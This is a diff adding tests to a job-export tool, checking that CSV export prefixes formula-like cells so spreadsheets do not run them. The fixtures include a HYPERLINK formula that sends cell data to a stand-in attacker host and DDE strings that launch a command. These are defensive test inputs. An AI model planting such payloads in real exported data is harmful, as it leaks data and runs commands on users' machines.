@@ -7,6 +7,8 @@ that need a real process (signals, locks, the simulator) are in test_unattended.
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import sqlite3
 from pathlib import Path
@@ -178,3 +180,40 @@ def test_export_replaces_its_file_whole() -> None:
         "b",
     ]
     assert sorted(p.name for p in Path().iterdir() if p.name.startswith("x")) == ["x.jsonl"]
+
+
+# -- spreadsheet formulas ------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click me")'
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas() -> None:
+    make_db(
+        Path("jobs.db"),
+        make_spec("a", FORMULA),
+        make_spec("b", "+1+cmd|' /C calc'!A0"),
+        make_spec("c", "@SUM(1+1)"),
+        make_spec("d", "-2+3"),
+        make_spec("e", "\t=tabbed"),
+        make_spec("f", "a plain prompt = fine"),
+        error="=cmd|' /C calc'!A0",  # the first job failed with a server-sent text
+    )
+    result = invoke("export", "--db", "jobs.db", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    table = list(csv.DictReader(io.StringIO(result.stdout)))
+    by_id = {row["id"]: row for row in table}
+    assert by_id["a"]["prompt"] == "'" + FORMULA
+    assert by_id["a"]["error"] == "'=cmd|' /C calc'!A0"
+    assert by_id["b"]["prompt"].startswith("'+") and by_id["c"]["prompt"].startswith("'@")
+    assert by_id["d"]["prompt"] == "'-2+3" and by_id["e"]["prompt"] == "'\t=tabbed"
+    assert by_id["f"]["prompt"] == "a plain prompt = fine"
+    for row in table:
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r", row
+
+
+def test_jsonl_export_keeps_every_text_exact() -> None:
+    make_db(Path("jobs.db"), make_spec("a", FORMULA), error="=cmd")
+    result = invoke("export", "--db", "jobs.db")
+    [row] = [json.loads(line) for line in result.stdout.splitlines()]
+    assert row["prompt"] == FORMULA and row["error"] == "=cmd"
